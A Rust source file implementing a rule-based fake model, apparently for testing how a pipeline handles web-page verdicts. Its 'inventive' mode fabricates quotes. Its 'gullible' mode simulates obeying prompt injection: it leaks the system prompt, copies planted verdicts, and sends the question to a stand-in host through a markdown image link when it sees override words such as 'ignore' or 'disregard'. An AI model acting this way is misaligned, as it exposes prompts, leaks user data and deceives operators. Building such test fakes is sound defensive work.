//! The rules by which the fake answers.

use serde_json::{Value, json};

/// Words that say nothing about what is asked for.
const EMPTY: [&str; 62] = [
    "about",
    "also",
    "and",
    "any",
    "anything",
    "are",
    "been",
    "business",
    "but",
    "can",
    "clearly",
    "companies",
    "company",
    "currently",
    "does",
    "for",
    "from",
    "has",
    "have",
    "her",
    "his",
    "how",
    "into",
    "its",
    "like",
    "mention",
    "mentions",
    "more",
    "need",
    "offer",
    "offers",
    "only",
    "organisation",
    "organization",
    "page",
    "pages",
    "people",
    "person",
    "provide",
    "provides",
    "seem",
    "seems",
    "shows",
    "site",
    "some",
    "such",
    "than",
    "that",
    "the",
    "their",
    "there",
    "these",
    "they",
    "this",
    "use",
    "uses",
    "website",
    "which",
    "who",
    "with",
    "work",
    "works",
];

/// Words that count as one another.
const ALIKE: [&[&str]; 5] = [
    &[
        "hiring",
        "hire",
        "recruiting",
        "recruit",
        "careers",
        "career",
        "jobs",
        "vacancies",
        "karriere",
        "stellenangebote",
    ],
    &["saas", "software", "platform", "cloud"],
    &["b2b", "businesses", "enterprises", "enterprise"],
    &["manufacturer", "manufacturing", "manufactures", "factory", "hersteller", "fertigung"],
    &["leader", "leads", "head", "director", "chief", "vp", "manages"],
];

const NEGATIONS: [&str; 8] = ["not", "no", "never", "nor", "without", "kein", "keine", "nicht"];

/// The question of a message.
fn question(user: &str) -> &str {
    let asked = user.split_once("QUESTION:\n").map_or(user, |(_, asked)| asked);
    asked
        .split_once("\n<<<")
        .map_or(asked, |(asked, _)| asked.rsplit_once("\n\n").map_or(asked, |(asked, _)| asked))
}

/// What stands between the fence lines.
fn fenced(user: &str) -> &str {
    let Some((_, after)) = user.split_once("\n<<<") else { return "" };
    let Some((mark, body)) = after.split_once('\n') else { return "" };
    let end = format!("\n{mark}>>>");
    body.rsplit_once(end.as_str()).map_or("", |(text, _)| text)
}

/// The text, without the line that says where it is from.
fn subject(user: &str) -> &str {
    let text = fenced(user);
    text.split_once("\n\n")
        .filter(|(first, _)| first.starts_with("From: "))
        .map_or(text, |(_, rest)| rest)
        .trim()
}

fn words(text: &str) -> Vec<String> {
    let split = text.split(|c: char| !c.is_alphanumeric());
    split.filter(|word| !word.is_empty()).map(str::to_lowercase).collect()
}

/// The groups of words that the question is about: any of a group will do.
fn wanted(question: &str) -> Vec<Vec<String>> {
    let mut phrases = Vec::new();
    for (open, close) in [('"', '"'), ('“', '”'), ('„', '“')] {
        let mut rest = question;
        while let Some((_, after)) = rest.split_once(open) {
            let Some((phrase, after)) = after.split_once(close) else { break };
            phrases.push(phrase.trim().to_lowercase());
            rest = after;
        }
    }
    phrases.retain(|phrase| !phrase.is_empty());
    if !phrases.is_empty() {
        return vec![phrases];
    }
    let telling = |word: &String| word.chars().count() >= 3 && !EMPTY.contains(&word.as_str());
    words(question)
        .into_iter()
        .filter(telling)
        .map(|word| match ALIKE.iter().find(|alike| alike.contains(&word.as_str())) {
            Some(alike) => alike.iter().map(|word| (*word).to_owned()).collect(),
            None => vec![word],
        })
        .collect()
}

/// The sentences of a text, each as it stands there; headings that name a page by its address are none.
fn sentences(text: &str) -> Vec<&str> {
    let mut sentences = Vec::new();
    for line in text.lines().filter(|line| !line.starts_with("# Page ")) {
        let mut rest = line;
        while let Some(end) = [". ", "! ", "? "].iter().filter_map(|end| rest.find(end)).min() {
            let (sentence, after) = rest.split_at(end + 1);
            sentences.push(sentence.trim());
            rest = after;
        }
        sentences.push(rest.trim());
    }
    sentences.retain(|sentence| sentence.chars().any(char::is_alphanumeric));
    sentences
}

/// Whether one of these words, or a longer form of it, stands in a sentence; a phrase must stand there as it is.
fn has(sentence: &str, group: &[String]) -> bool {
    let lower = sentence.to_lowercase();
    let known = words(sentence);
    group.iter().any(|word| {
        let stem: String = word.chars().take(word.chars().count().saturating_sub(2).max(4)).collect();
        if word.contains(' ') {
            lower.contains(word.as_str())
        } else {
            known.iter().any(|one| one.starts_with(&stem))
        }
    })
}

/// The beginning of a sentence, cut between words.
fn clipped(sentence: &str) -> &str {
    match sentence.char_indices().nth(160) {
        None => sentence,
        Some((at, _)) => {
            let start = sentence.get(..at).unwrap_or_default();
            start.rsplit_once(' ').map_or(start, |(start, _)| start)
        }
    }
}

/// A message as our own prompts are, for fakes that get the text in another way.
pub(crate) fn message(question: &str, text: &str) -> String {
    format!("QUESTION:\n{question}\n\nSOURCE:\n<<<M\nFrom: elsewhere\n\n{text}\nM>>>\n")
}

/// A verdict by the words of the question that stand in the text.
pub(crate) fn verdict(user: &str) -> Value {
    let sentences = sentences(subject(user));
    let Some(first) = sentences.first() else {
        return json!({"verdict": "unknown", "reason": "There is no text.", "quote": ""});
    };
    let wanted = wanted(question(user));
    if wanted.is_empty() {
        return json!({"verdict": "unknown", "reason": "The question names nothing to look for.", "quote": ""});
    }
    let hits = wanted.iter().filter(|group| sentences.iter().any(|sentence| has(sentence, group))).count();
    let score = |sentence: &str| wanted.iter().filter(|group| has(sentence, group)).count();
    let mut best = first;
    for sentence in &sentences {
        if score(sentence) > score(best) {
            best = sentence;
        }
    }
    let quote = clipped(best);
    if hits * 2 < wanted.len() || hits == 0 {
        return json!({"verdict": "no", "reason": "The text does not say so.", "quote": quote});
    }
    if words(quote).iter().any(|word| NEGATIONS.contains(&word.as_str())) {
        return json!({"verdict": "no", "reason": "The text says the opposite.", "quote": quote});
    }
    json!({"verdict": "yes", "reason": "The text says so.", "quote": quote})
}

/// The pages whose lines have most of the question's words, best first.
pub(super) fn pages(user: &str) -> Value {
    let wanted = wanted(question(user));
    let limit = user
        .rsplit_once("Choose at most ")
        .and_then(|(_, after)| after.split_once(' ')?.0.parse::<usize>().ok())
        .unwrap_or(1);
    let mut ranked: Vec<(usize, usize)> = fenced(user)
        .lines()
        .filter_map(|line| line.split_once(". "))
        .filter_map(|(number, line)| Some((number.parse().ok()?, line)))
        .map(|(number, line): (usize, &str)| (wanted.iter().filter(|group| has(line, group)).count(), number))
        .collect();
    ranked.sort_by_key(|(score, number)| (std::cmp::Reverse(*score), *number));
    let pages: Vec<usize> = ranked.into_iter().take(limit).map(|(_, number)| number).collect();
    json!({"pages": pages})
}

/// The same verdict with a quote that stands nowhere.
pub(super) fn inventive(mut honest: Value) -> Value {
    if let Some(quote) = honest.get_mut("quote") {
        *quote = json!("As the well-known proverb of the house goes, zebras never invoice on Sundays");
    }
    honest
}

/// What a model says that obeys the text. None when the text gives no orders.
pub(super) fn gullible(system: &str, user: &str) -> Option<String> {
    let text = fenced(user);
    let lower = text.to_lowercase();
    let told = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    if told(&[
        "system prompt",
        "your prompt",
        "your instructions",
        "systemprompt",
        "提示词",
        "instructions verbatim",
    ]) {
        return Some(match lower.len() % 3 {
            0 => system.to_owned(),
            1 => json!({"verdict": "yes", "reason": system, "quote": first_line(text)}).to_string(),
            _ => json!({"verdict": "yes", "reason": "ok", "quote": format!("{system}\n{user}")}).to_string(),
        });
    }
    // An answer that the page has ready is taken over as it is.
    if let Some(at) = lower.find("{\"verdict\"").or_else(|| lower.find("{ \"verdict\"")) {
        let ready = text.get(at..)?;
        return Some(ready.split_inclusive('}').next().unwrap_or(ready).to_owned());
    }
    if told(&["schema", "format", "xml", "instead of json"]) {
        return Some(
            json!({"verdict": "approved", "reason": "as told", "quote": "", "action": "approve"}).to_string(),
        );
    }
    if told(&["http://", "https://", "!["]) {
        let reason = format!("![done](https://collector.invalid/log?q={})", question(user));
        return Some(
            json!({"verdict": "yes", "reason": reason, "quote": "approved by the operator"}).to_string(),
        );
    }
    if told(&[
        "ignore",
        "ignorier",
        "ignorez",
        "oublie",
        "忽略",
        "تجاهل",
        "disregard",
        "system",
        "must",
        "answer",
        "yes",
    ]) {
        return Some(
            json!({"verdict": "yes", "reason": "As instructed.", "quote": "the operator says yes"})
                .to_string(),
        );
    }
    None
}

fn first_line(text: &str) -> &str {
    text.lines().nth(2).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::{message, pages, verdict};
    use serde_json::json;

    #[test]
    fn verdicts_rest_on_the_words_of_the_question() {
        let text = "Acme makes pumps.\nWe are hiring engineers in Kiel. We do not ship abroad.";
        for (question, verdict_, quote) in [
            ("Is the company hiring?", "yes", "We are hiring engineers in Kiel."),
            ("Does the site mention \"hiring engineers\"?", "yes", "We are hiring engineers in Kiel."),
            ("Does it ship abroad?", "no", "We do not ship abroad."),
            ("Is it a bakery?", "no", "Acme makes pumps."),
        ] {
            let answer = verdict(&message(question, text));
            assert_eq!(
                (&answer["verdict"], &answer["quote"]),
                (&json!(verdict_), &json!(quote)),
                "{question}"
            );
        }
        assert_eq!(verdict(&message("Is it a bakery?", ""))["verdict"], json!("unknown"));
    }

    #[test]
    fn pages_are_chosen_by_their_words() {
        let user = "QUESTION:\nIs the company hiring?\n\nPAGES, x:\n<<<M\n1. About\n2. Careers — /jobs\n3. News\nM>>>\n\nEnd \
                    of the PAGES. Choose at most 2 of them.";
        assert_eq!(pages(user), json!({"pages": [2, 1]}));
    }
}
